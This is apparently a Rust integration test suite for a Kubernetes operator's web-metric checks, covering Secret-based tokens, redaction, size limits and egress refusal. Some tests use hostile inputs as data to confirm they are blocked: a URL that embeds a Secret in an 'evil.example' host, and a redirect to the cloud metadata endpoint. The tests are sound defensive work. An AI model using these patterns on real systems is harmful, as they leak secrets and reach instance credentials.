//! Checks over HTTP: the scenario's web server answers, and the operator authenticates with a Secret.

use std::sync::Arc;

use axum::Router;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::routing::get;
use k8s_openapi::api::core::v1::Event;
use kube::Api;
use kube::api::ListParams;
use parking_lot::Mutex;
use serde_json::json;
use stateward_api::analysis::Phase;

use super::analysis::{analysis, expect_runs, template};
use crate::harness::{Cluster, Doing, Outcome, Rollout, Set, Site};
use crate::scenarios;

scenarios![
    a_web_check_decides_and_its_token_stays_a_secret,
    a_secret_that_is_missing_is_named,
    a_redirect_to_an_address_that_is_refused_is_reported_with_the_way_to_open_it,
    a_page_that_a_web_check_is_answered_with_stays_out_of_status_and_events,
    a_secret_in_the_host_of_a_check_is_refused_before_it_is_read,
    an_answer_of_too_many_values_is_an_error_and_not_a_success,
];

const TOKEN: &str = "hunter2-the-canary";

/// A server that answers `{"data": {"ok": …}}` to requests with the token, and its URL.
async fn site(ok: &Arc<Mutex<bool>>) -> Outcome<(Site, String)> {
    let router = Router::new().route("/check", get(answer)).with_state(ok.clone());
    let site = Site::serve(router).await?;
    let url = format!("http://{}/check", site.address);
    Ok((site, url))
}

async fn answer(State(ok): State<Arc<Mutex<bool>>>, headers: HeaderMap) -> Result<String, StatusCode> {
    let expected = format!("Bearer {TOKEN}");
    match headers.get("authorization") {
        Some(given) if given.as_bytes() == expected.as_bytes() => {
            let ok = *ok.lock();
            Ok(json!({"data": {"ok": ok}}).to_string())
        }
        _ => Err(StatusCode::UNAUTHORIZED),
    }
}

/// A set of three pods whose rollouts query this URL between the first pod and the others, with a token from a Secret.
async fn analysed<'c>(cluster: &'c Cluster, url: &str) -> Outcome<(Set<'c>, Rollout<'c>)> {
    let web = json!({
        "url": url, "jsonPath": "{$.data.ok}", "timeoutSeconds": 5,
        "headers": [{"key": "Authorization", "value": "Bearer {{args.token}}"}],
    });
    let metric = json!({
        "name": "check", "successCondition": "result == true", "consecutiveErrorLimit": 0, "provider": {"web": web},
    });
    let token = json!({"name": "token", "valueFrom": {"secretKeyRef": {"name": "check", "key": "token"}}});
    template(cluster, "checks", json!({"metrics": [metric], "args": [token]})).await?;
    let db = cluster.statefulset("db").replicas(3).start().await?;
    let steps = json!([{"setWeight": 40}, analysis("checks"), {"setWeight": 80}]);
    let rollout = cluster.rollout("db").steps(steps).start().await?;
    Ok((db, rollout))
}

async fn a_web_check_decides_and_its_token_stays_a_secret(cluster: &mut Cluster) -> Outcome {
    let ok = Arc::new(Mutex::new(true));
    let (_site, url) = site(&ok).await?;
    cluster.ask_providers();
    cluster.let_operator_read("check").await?;
    let secret = json!({"stringData": {"token": TOKEN}});
    cluster.create("secrets", "check", secret).await?;
    cluster.with_operator().await?;
    let (db, rollout) = analysed(cluster, &url).await?;
    db.set_image("v2").await?;
    db.expect_rest(["v2"; 3]).await?;
    rollout.expect_phase("Successful").await?;
    *ok.lock() = false;
    db.set_image("v3").await?;
    expect_runs(cluster, &[Phase::Successful, Phase::Failed]).await?;
    db.expect_rest(["v2"; 3]).await?;
    let status = rollout.expect_phase("Failed").await?;
    cluster.expect(
        "the reason says what was answered",
        status.message.contains("of false"),
    )?;
    let runs = expect_runs(cluster, &[Phase::Successful, Phase::Failed]).await?;
    let events: Api<Event> = Api::namespaced(cluster.client(), cluster.namespace());
    let events = events.list(&ListParams::default()).await.doing("list events")?;
    let written = json!([runs, rollout.get().await?, events.items]).to_string();
    cluster.expect("the token is written down nowhere", !written.contains(TOKEN))
}

async fn a_secret_that_is_missing_is_named(cluster: &mut Cluster) -> Outcome {
    let ok = Arc::new(Mutex::new(true));
    let (_site, url) = site(&ok).await?;
    cluster.ask_providers();
    cluster.let_operator_read("check").await?;
    cluster.with_operator().await?;
    let (db, rollout) = analysed(cluster, &url).await?;
    db.set_image("v2").await?;
    expect_runs(cluster, &[Phase::Error]).await?;
    db.expect_rest(["v1"; 3]).await?;
    rollout.expect_message("there is no Secret check").await.map(drop)
}

/// A server that answers every request with this body, and its URL.
async fn page(body: String) -> Outcome<(Site, String)> {
    let answer = move || async move { ([(axum::http::header::CONTENT_TYPE, "text/html")], body) };
    let site = Site::serve(Router::new().fallback(answer)).await?;
    let url = format!("http://{}/check", site.address);
    Ok((site, url))
}

/// The rollout and every object written about it, after a check of this web metric has failed.
async fn rejected(
    cluster: &mut Cluster,
    metric: serde_json::Value,
    args: serde_json::Value,
    phase: Phase,
) -> Outcome<String> {
    cluster.with_operator().await?;
    template(cluster, "checks", json!({"metrics": [metric], "args": args})).await?;
    let db = cluster.statefulset("db").replicas(3).start().await?;
    let steps = json!([{"setWeight": 40}, analysis("checks"), {"setWeight": 80}]);
    let rollout = cluster.rollout("db").steps(steps).start().await?;
    db.set_image("v2").await?;
    let runs = expect_runs(cluster, &[phase]).await?;
    db.expect_rest(["v1"; 3]).await?;
    rollout.expect_phase("Failed").await?;
    let events: Api<Event> = Api::namespaced(cluster.client(), cluster.namespace());
    let events = events.list(&ListParams::default()).await.doing("list events")?;
    let statuses: Vec<_> = runs.iter().map(|run| &run.status).collect();
    Ok(json!([statuses, rollout.get().await?.status, events.items]).to_string())
}

async fn a_page_that_a_web_check_is_answered_with_stays_out_of_status_and_events(
    cluster: &mut Cluster,
) -> Outcome {
    let html = "<html>Welcome, internal-page-c4n4ry</html>";
    let (_site, url) = page(html.to_owned()).await?;
    cluster.ask_providers();
    let judged =
        json!({"name": "judged", "successCondition": "result == 'fine'", "provider": {"web": {"url": url}}});
    let written = rejected(cluster, judged, json!([]), Phase::Failed).await?;
    cluster.expect("nothing of the page is shown", !written.contains("c4n4ry"))?;
    cluster.expect(
        "its size is",
        written.contains(&format!("text, {} bytes", html.len())),
    )?;
    Ok(())
}

async fn a_secret_in_the_host_of_a_check_is_refused_before_it_is_read(cluster: &mut Cluster) -> Outcome {
    cluster.ask_providers();
    let web = json!({"web": {"url": "http://{{args.token}}.evil.example/", "timeoutSeconds": 5}});
    let metric = json!({"name": "check", "consecutiveErrorLimit": 0, "provider": web});
    // The operator has no right to read it, and the server would reject an attempt.
    let token = json!({"name": "token", "valueFrom": {"secretKeyRef": {"name": "check", "key": "token"}}});
    let written = rejected(cluster, metric, json!([token]), Phase::Error).await?;
    cluster.expect(
        "the field is named",
        written.contains("provider.web.url: {{args.token}} comes from a Secret"),
    )
}

async fn an_answer_of_too_many_values_is_an_error_and_not_a_success(cluster: &mut Cluster) -> Outcome {
    let (_site, url) = page(format!("[{}0]", r#"{"":0},"#.repeat(30_000))).await?;
    cluster.ask_providers();
    let web = json!({"web": {"url": url, "timeoutSeconds": 5}});
    let metric = json!({
        "name": "check", "consecutiveErrorLimit": 0, "successCondition": "len(result) > 1", "provider": web,
    });
    let written = rejected(cluster, metric, json!([]), Phase::Error).await?;
    cluster.expect(
        "the limit is named",
        written.contains("the answer has more than 20000 values"),
    )
}

async fn a_redirect_to_an_address_that_is_refused_is_reported_with_the_way_to_open_it(
    cluster: &mut Cluster,
) -> Outcome {
    cluster.ask_providers();
    cluster.let_operator_read("check").await?;
    let secret = json!({"stringData": {"token": TOKEN}});
    cluster.create("secrets", "check", secret).await?;
    cluster.with_operator().await?;
    let to = || async { axum::response::Redirect::temporary("http://169.254.169.254/latest/meta-data") };
    let site = Site::serve(Router::new().route("/", get(to))).await?;
    let (db, rollout) = analysed(cluster, &format!("http://{}/", site.address)).await?;
    db.set_image("v2").await?;
    expect_runs(cluster, &[Phase::Error]).await?;
    db.expect_rest(["v1"; 3]).await?;
    rollout.expect_message("--allow-egress").await.map(drop)
}
